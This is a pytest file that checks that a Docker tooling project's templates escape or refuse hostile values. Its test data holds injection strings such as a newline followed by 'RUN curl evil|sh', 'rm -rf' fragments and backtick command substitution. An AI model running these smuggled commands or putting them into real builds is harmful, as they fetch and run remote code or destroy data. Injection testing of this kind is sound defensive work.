"""Every template rendered with hostile values: each output parses to exactly the intended
instructions and keys (BuildKit's parser through the ``dockerfile`` package, ruamel for YAML,
rsdock's .dockerignore model), and a line break is refused rather than rendered.

The plan refuses these values where they enter (``Plan.problems``, tested in test_answers); the
plans here skip that check on purpose, to prove the templates' own escaping is a second lock.
"""

from __future__ import annotations

import re
import shlex
import subprocess

import dockerfile
import pytest
from ruamel.yaml import YAML

from rsdock.lint.model.dockerignore import parse_dockerignore
from rsdock.wizard.generate import render as render_module
from rsdock.wizard.generate.plan import Image, Plan, Triggers
from rsdock.wizard.generate.templating import UnsafeValue

# One line each, full of what a Dockerfile, a shell, YAML or a .dockerignore would misread.
ONE_LINE = ["we b", "$HOME", "a'b", 'a"b', "`id`", "a;rm -rf x", "a|sh", "a&&b", "*?[x]",
            "!keep", "#comment", "a: b", "{x}", "- y", "a\\b", "ünï €"]
LINE_BREAKS = ["web\nRUN curl evil|sh", "a\rb", "a\x1bb", "a\x00b", "a\u2028b"[:1] + "\x0bb"]

SERVER = Image("server", "bin", "server", "Dockerfile", "crates/server")
WEB = Image("web", "web", "web", "Dockerfile.web", "crates/web")


def commands(text: str) -> list[str]:
    return [c.cmd for c in dockerfile.parse_string(text)]


def buildkit_word(value: str) -> str:
    """What BuildKit's word processing makes of an escaped WORKDIR/COPY argument."""
    return re.sub(r"\\(.)", r"\1", value)


BENIGN_WEB = commands(render_module.dockerfile(Plan(images=(WEB,)), WEB))
BENIGN_BIN = commands(render_module.dockerfile(Plan(images=(SERVER,)), SERVER))


def shell_words(args: str, cwd) -> list[str]:
    """What a POSIX shell makes of ``args`` (run by bash itself: only printf executes)."""
    done = subprocess.run(["bash", "-c", f'TARGET_TRIPLE=T; printf "%s\\0" {args}'],
                          capture_output=True, cwd=cwd, env={}, check=True)
    return done.stdout.decode().split("\0")[:-1]


@pytest.mark.parametrize("value", ONE_LINE)
def test_a_web_apps_folder_and_package_stay_one_word_each(value):
    image = Image("web", "web", f"pkg{value}", "Dockerfile.web", f"crates/{value}")
    if re.search(r"\s", value):
        with pytest.raises(UnsafeValue, match="whitespace"):
            render_module.dockerfile(Plan(images=(image,)), image)
        return
    text = render_module.dockerfile(Plan(images=(image,)), image)
    parsed = list(dockerfile.parse_string(text))
    assert [c.cmd for c in parsed] == BENIGN_WEB  # no instruction forged, none swallowed
    trunk = next(i for i, c in enumerate(parsed) if c.cmd == "RUN" and "trunk build" in c.value[0])
    workdir = parsed[trunk - 1]
    assert buildkit_word(workdir.value[0]) == f"/app/crates/{value}"
    cook = next(c for c in parsed if c.cmd == "RUN" and "cargo chef cook" in c.value[0])
    words = shlex.split(cook.value[0])
    assert words[words.index("--package") + 1] == f"pkg{value}"


@pytest.mark.parametrize("value", ONE_LINE)
def test_a_binary_name_stays_one_shell_word(value, tmp_path):
    image = Image(f"b{value}", "bin", "server", "Dockerfile", "crates/server")
    if re.search(r"\s", value):
        with pytest.raises(UnsafeValue, match="whitespace"):
            render_module.dockerfile(Plan(images=(image,)), image)
        return
    text = render_module.dockerfile(Plan(images=(image,)), image)
    parsed = list(dockerfile.parse_string(text))
    assert [c.cmd for c in parsed] == BENIGN_BIN
    build = next(c for c in parsed if c.cmd == "RUN" and "cargo build" in c.value[0])
    script = build.value[0]
    cargo = script[script.index("cargo build"):script.index("&& mkdir")]
    words = shell_words(cargo.replace("\\\n", " ").replace("cargo build", "", 1), tmp_path)
    assert words[words.index("--bin") + 1] == f"b{value}"
    copied = script[script.index("&& cp ") + len("&& cp "):]
    assert shell_words(copied, tmp_path) == [f"target/T/release/b{value}", f"/out/b{value}"]
    copy = next(c for c in parsed if c.cmd == "COPY" and "--from=builder" in c.flags)
    assert [buildkit_word(w) for w in copy.value] == [f"/out/b{value}", f"/usr/local/bin/b{value}"]
    entrypoint = next(c for c in parsed if c.cmd == "ENTRYPOINT")
    assert entrypoint.json and entrypoint.value[-1] == f"/usr/local/bin/b{value}"


@pytest.mark.parametrize("value", ONE_LINE)
def test_a_dist_folder_in_dockerignore_is_one_literal_pattern(value):
    image = Image("web", "web", "web", "Dockerfile.web", f"crates/{value}")
    text = render_module.dockerignore(Plan(images=(SERVER, image)))
    benign = render_module.dockerignore(Plan(images=(SERVER, WEB)))
    ignore = parse_dockerignore(".dockerignore", text)
    assert len(ignore.patterns) == len(parse_dockerignore(".dockerignore", benign).patterns)
    dist = f"crates/{value}/dist"
    assert ignore.excluded(dist) if hasattr(ignore, "excluded") else any(
        p.matches(dist) for p in ignore.patterns if not p.exclusion)
    if value.startswith(("!", "#")):
        assert not any(p.exclusion for p in ignore.patterns)  # no re-include, no comment


@pytest.mark.parametrize("value", ONE_LINE + ["x\ny", "on", "1.0", "null", "*alias", "&anchor"])
def test_workflow_values_load_back_exactly(value):
    image = Image("server", "bin", "server", "Dockerfile", "crates/server", image=f"acme/{value}")
    text = render_module.workflow(Plan(images=(image,), triggers=Triggers(branches=(value,))))
    data = YAML(typ="safe").load(text)
    assert data["on"]["push"]["branches"] == [value]
    build, sign = data["jobs"].values()  # the build and the job that signs its digest
    for job in (build, sign):
        env = next(s["env"] for s in job["steps"] if "IMAGE" in s.get("env", {}))
        assert env["IMAGE"] == f"acme/{value}"
    assert set(data) == {"name", "on", "permissions", "concurrency", "jobs"} & set(data) | {"on"}


@pytest.mark.parametrize("value", LINE_BREAKS)
@pytest.mark.parametrize("field", ["name", "package", "package_dir"])
def test_a_line_break_anywhere_is_refused_not_rendered(value, field):
    for base in ((SERVER, WEB) if field != "package_dir" else (WEB,)):  # bins ignore their folder
        image = Image(**{**base.__dict__, field: value if field != "package_dir"
                         else f"crates/{value}"})
        plan = Plan(images=(image,))
        with pytest.raises(UnsafeValue):
            render_module.dockerfile(plan, image)
        if field == "package_dir" and base is WEB:
            with pytest.raises(UnsafeValue):
                render_module.dockerignore(plan)


def test_a_path_ending_in_whitespace_is_refused_not_turned_into_a_line_continuation():
    image = Image("web", "web", "web", "Dockerfile.web", "crates/a;rm -rf /")
    with pytest.raises(UnsafeValue, match="whitespace"):
        render_module.dockerfile(Plan(images=(image,)), image)


def test_the_plan_refuses_what_the_templates_would_refuse():
    image = Image("web", "web", "web", "Dockerfile.web", "crates/we\nRUN curl evil|sh")
    problems = Plan(images=(image,)).problems()
    assert [p.image_key for p in problems] == ["package-dir"]
    assert "\n" not in problems[0].message
